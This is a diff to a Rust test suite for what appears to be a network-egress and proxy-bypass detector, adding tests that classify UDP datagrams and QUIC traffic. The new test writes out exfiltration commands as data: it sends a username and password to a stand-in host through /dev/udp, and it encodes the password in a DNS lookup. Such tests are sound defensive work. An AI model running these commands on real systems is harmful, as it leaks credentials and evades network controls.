@@ -61,14 +61,21 @@ fn what_stays_inside_is_no_bypass() {
 }
 
 #[test]
-fn datagrams_are_noted() {
+fn datagrams_are_noted_and_quic_is_a_bypass() {
     if !allowed() {
         return;
     }
     let send = "curl -sS {target}; for to in 8.8.8.8/53 93.184.216.34/443; do \
                 echo x > /dev/udp/$to; done; true";
+    let (dns, _) = events("ok/plain", &send.replace("93.184.216.34/443", ""));
+    assert_eq!(verdict(&dns), "PASS");
+    let notes = &named(&dns, "run:ended")[0]["notes"];
+    assert_eq!(
+        notes,
+        &serde_json::json!(["egress: sent a datagram to 8.8.8.8:53 around the proxy"])
+    );
     let (events, _) = events("ok/plain", send);
-    assert_eq!(verdict(&events), "PASS");
+    assert_eq!(verdict(&events), "BYPASS");
     let seen: Vec<String> = named(&events, "net:egress")
         .iter()
         .map(|data| format!("{} {} {}", data["proto"], data["dst"], data["likely"]))
@@ -80,6 +87,24 @@ fn datagrams_are_noted() {
             "\"udp\" \"93.184.216.34:443\" \"QUIC\""
         ]
     );
+}
+
+/// In a name or in a datagram, the password is told to whoever listens.
+#[test]
+fn the_password_around_the_proxy_is_a_leak() {
+    if !allowed() {
+        return;
+    }
+    for (send, spot) in [
+        ("getent ahosts {pass}.example.com", "name asked of a name server"),
+        ("echo {user}:{pass} > /dev/udp/203.0.113.9/514", "datagram around the proxy"),
+    ] {
+        let (events, _) =
+            events("auth/407-basic-then-ok", &format!("curl -sS {{target}}; {send}; true"));
+        assert_eq!(verdict(&events), "LEAK", "{send}");
+        let measured = named(&events, "verdict:finding")[0]["measured"].to_string();
+        assert!(measured.contains(spot), "{measured}");
+    }
 }
 
 /// Without a proxy in the PAC file, a client that goes to the target itself.
